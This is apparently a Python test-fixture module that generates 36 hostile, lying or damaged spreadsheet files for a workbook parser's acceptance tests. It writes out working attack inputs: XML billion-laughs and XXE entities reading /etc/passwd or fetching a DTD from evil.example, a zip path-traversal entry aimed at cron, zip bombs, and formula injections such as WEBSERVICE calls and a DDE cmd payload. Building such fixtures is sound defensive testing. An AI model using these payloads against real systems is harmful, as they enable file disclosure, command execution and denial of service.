"""Cases a01 to a36 of the acceptance list: workbooks that attack, lie, are damaged, or are something else."""

from __future__ import annotations

from collections.abc import Callable, Mapping

from tests.tools.hostile import files as hostile
from tests.tools.hostile.files import HEAD, MAIN, OFFICE, RELATIONS, book, pack, parts, worksheet

HEADER = ("Q1", "Q2", "Q3")


def row(number: int, *values: object) -> str:
    """One row of the sheet XML: numbers as numbers, texts inline."""
    cells = ""
    for column, value in enumerate(values):
        if value is None:
            continue
        at = f"{chr(65 + column)}{number}"
        if isinstance(value, str):
            cells += f'<c r="{at}" t="inlineStr"><is><t>{value}</t></is></c>'
        else:
            cells += f'<c r="{at}"><v>{value}</v></c>'
    return f'<row r="{number}">{cells}</row>'


def answers(*more: str) -> str:
    """A header, one response, and more rows."""
    return row(1, *HEADER) + row(2, 1, 2, 3) + "".join(more)


def entities(declared: str, used: str = "&a;") -> bytes:
    text = f'<?xml version="1.0"?><!DOCTYPE x [{declared}]><worksheet {MAIN}><sheetData>{row(1, used)}</sheetData></worksheet>'
    return pack(parts(text))


def laughs() -> str:
    ten = "".join(f'<!ENTITY a{i} "{f"&a{i - 1};" * 10}">' for i in range(1, 10))
    return f'<!ENTITY a0 "ha">{ten}<!ENTITY a "&a9;">'


def dimension_lie() -> bytes:
    return pack(parts(worksheet(answers(row(3, 2, 2, 2)), head='<dimension ref="A1:XFD1048576"/>')))


def far(at: str, number: int) -> bytes:
    return book(answers(f'<row r="{number}"><c r="{at}"><v>1</v></c></row>'))


def far_column() -> bytes:
    return book(row(1, *HEADER).replace("</row>", '<c r="XFD1"><v>1</v></c></row>') + row(2, 1, 2, 3))


def styled_blanks() -> bytes:
    return book(answers(*(f'<row r="{i}"><c r="A{i}" s="0"/><c r="B{i}" s="0"/></row>' for i in range(3, 100_003))))


def merged_sheet() -> bytes:
    return book(answers(), '<mergeCells count="1"><mergeCell ref="A1:XFD1048576"/></mergeCells>')


def path_traversal() -> bytes:
    return pack({**parts(worksheet(answers())), "../../../etc/cron.d/evil": "* * * * * root true"})


def external_links() -> bytes:
    made = parts(worksheet(answers()))
    made["xl/externalLinks/externalLink1.xml"] = (
        f'{HEAD}<externalLink {MAIN}><externalBook r:id="rId1"/></externalLink>'
    )
    made["xl/externalLinks/_rels/externalLink1.xml.rels"] = (
        f'{HEAD}<Relationships {RELATIONS}><Relationship Id="rId1" Type="{OFFICE}/externalLinkPath" '
        'Target="file:///etc/passwd" TargetMode="External"/></Relationships>'
    )
    return pack(made)


def many_members() -> bytes:
    return pack({**parts(worksheet(answers())), **{f"xl/media/{i}": "" for i in range(50_000)}})


def bad_string_index() -> bytes:
    return book(
        '<row r="1"><c r="A1" t="s"><v>999999</v></c></row>' + row(2, 1, 2, 3), shared=hostile.shared_strings("Q1")
    )


def damaged_xml() -> bytes:
    whole = worksheet(answers())
    return pack(parts(whole[: len(whole) // 2]))


def long_book() -> bytes:
    return book(row(1, *HEADER) + "".join(row(i, 1 + i % 5, 1 + i % 3, 1 + i % 2) for i in range(2, 900)))


def truncated() -> bytes:
    data = long_book()
    return data[: len(data) // 2]


def damaged_bytes() -> bytes:
    data = bytearray(long_book())
    at = data.index(b"PK\x03\x04") + 200
    data[at : at + 20] = b"\xff" * 20
    return bytes(data)


def other_zip() -> bytes:
    return pack({"photo.jpg": b"\xff\xd8\xff\xe0 not a workbook", "readme.txt": "photos"})


def encrypted() -> bytes:
    return hostile.compound({"EncryptionInfo": b"\x04\x00\x04\x00", "EncryptedPackage": bytes(5000)})


def old_workbook() -> bytes:
    cells = b"".join(hostile.text_cell(0, i, h) for i, h in enumerate(HEADER))
    return hostile.xls({"数据": cells + b"".join(hostile.number_cell(1, i, i + 1) for i in range(3))})


def html() -> bytes:
    cells = "".join(f"<td>{h}</td>" for h in HEADER)
    return f"<html><head><meta charset='utf-8'></head><table><tr>{cells}</tr></table></html>".encode()


def xml_2003() -> bytes:
    return (
        b'<?xml version="1.0"?><?mso-application progid="Excel.Sheet"?>'
        b'<Workbook xmlns="urn:schemas-microsoft-com:office:spreadsheet"><Worksheet/></Workbook>'
    )


def macros() -> bytes:
    return pack({**parts(worksheet(answers())), "xl/vbaProject.bin": hostile.compound({"VBA": b"x"})})


FORMULAS = (
    "1+1",
    "SUM(1,2)",
    'HYPERLINK("http://evil.example")',
    'WEBSERVICE("http://evil.example")',
    "cmd|'/c calc'!A0",
)


def formulas(value: str) -> bytes:
    """Five formulas in A2 to E2, each with this stored result (or none)."""
    cells = "".join(
        f'<c r="{chr(65 + i)}2"><f>{f.replace(chr(34), "&quot;")}</f>{value}</c>' for i, f in enumerate(FORMULAS)
    )
    return book(row(1, "Q1", "Q2", "Q3", "Q4", "Q5") + f'<row r="2">{cells}</row>')


def error_cells() -> bytes:
    """#N/A in A2, #DIV/0! in A3, the texts "N/A " and "#N/A" in A4 and A5; and a dimension that lies."""
    rows = (
        row(1, *HEADER)
        + '<row r="2"><c r="A2" t="e"><v>#N/A</v></c><c r="B2"><v>1</v></c></row>'
        + '<row r="3"><c r="A3" t="e"><f>1/0</f><v>#DIV/0!</v></c><c r="B3"><v>1</v></c></row>'
        + row(4, "无数据", 1)
        + row(5, "#N/A", 1)
        + row(6, 1, 1)
    )
    return pack(parts(worksheet(rows, head='<dimension ref="A1:B3"/>')))


def lying_bomb() -> bytes:
    """a01: cells without end in a small archive whose directory tells the truth."""
    return hostile.zeros("xl/worksheets/sheet1.xml", 25)


WORKBOOKS: Mapping[str, tuple[str, Callable[[], bytes]]] = {
    "a01": ("a01.xlsx", lying_bomb),
    "a02": ("a02.xlsx", lambda: hostile.zeros("xl/sharedStrings.xml", 25, b"<sst>")),
    "a03": ("a03.xlsx", lambda: hostile.zeros("xl/sharedStrings.xml", 25, b"<sst><si><t>", b"a")),
    "a04": ("a04.xlsx", lambda: entities(laughs())),
    "a05": ("a05.xlsx", lambda: entities(f'<!ENTITY a "{"x" * 50_000}">', "&a;" * 5_000)),
    "a06": ("a06.xlsx", lambda: entities('<!ENTITY % p "<!ENTITY a &#39;ha&#39;>"> %p;')),
    "a07": ("a07.xlsx", lambda: entities('<!ENTITY a SYSTEM "file:///etc/passwd">')),
    "a08": ("a08.xlsx", lambda: entities('<!ENTITY % e SYSTEM "http://evil.example/e.dtd"> %e;')),
    "a09": ("a09.xlsx", dimension_lie),
    "a10": ("a10.xlsx", lambda: far("XFD1048576", 1_048_576)),
    "a11": ("a11.xlsx", lambda: far("A1048576", 1_048_576)),
    "a12": ("a12.xlsx", far_column),
    "a13": ("a13.xlsx", lambda: far("ZZZZ99999999", 99_999_999)),
    "a14": ("a14.xlsx", styled_blanks),
    "a15": ("a15.xlsx", merged_sheet),
    "a16": ("a16.xlsx", path_traversal),
    "a17": ("a17.xlsx", external_links),
    "a18": ("a18.xlsx", many_members),
    "a19": ("a19.xlsx", bad_string_index),
    "a20": ("a20.xlsx", damaged_xml),
    "a21": ("a21.xlsx", truncated),
    "a22": ("a22.xlsx", damaged_bytes),
    "a23": ("a23.xlsx", bytes),
    "a24": ("a24.csv", bytes),
    "a25": ("a25.xlsx", other_zip),
    "a26": ("a26.xlsx", encrypted),
    "a27": ("a27.xlsx", old_workbook),
    "a28": ("a28.xls", lambda: book(answers())),
    "a29": ("a29.xls", html),
    "a30": ("a30.xls", xml_2003),
    "a31": ("a31.xls", lambda: b"Q1\tQ2\tQ3\n1\t2\t3\n"),
    "a32": ("a32.xlsx", lambda: b"Q1,Q2,Q3\n1,2,3\n"),
    "a33": ("a33.xlsx", macros),
    "a34": ("a34.xlsx", lambda: formulas("")),
    "a35": ("a35.xlsx", lambda: formulas("<v>2</v>")),
    "a36": ("a36.xlsx", error_cells),
}
